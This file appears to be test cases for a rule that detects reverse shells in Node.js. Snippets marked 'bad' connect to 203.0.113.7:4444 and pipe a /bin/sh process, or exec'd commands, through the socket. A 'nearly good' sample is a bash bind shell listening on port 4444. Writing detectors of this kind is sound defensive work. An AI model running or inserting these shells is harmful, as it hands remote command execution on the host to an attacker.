// bad: the shell's streams are the socket
const net = require("net");
const { spawn } = require("child_process");
const shell = spawn("/bin/sh", []);
const socket = new net.Socket();
socket.connect(4444, "203.0.113.7", () => {
  socket.pipe(shell.stdin);
  shell.stdout.pipe(socket);
});
// bad: command by command
const net = require("net");
const { exec } = require("child_process");
const socket = net.connect(4444, "203.0.113.7");
socket.on("data", (data) => exec(data.toString(), (error, out) => socket.write(out)));
// good: nearly: a file into a program
const fs = require("fs");
const { spawn } = require("child_process");
const sort = spawn("sort", []);
fs.createReadStream("words.txt").pipe(sort.stdin);
// good: nearly: answers are printed
const net = require("net");
const socket = net.connect(6667, "irc.example");
socket.on("data", (data) => console.log(data.toString()));
// good: nearly: the other way round, a server: another rule speaks of it
const net = require("net");
const { spawn } = require("child_process");
const shell = spawn("bash", ["-i"]);
net.createServer((socket) => { socket.pipe(shell.stdin); shell.stdout.pipe(socket); }).listen(4444);
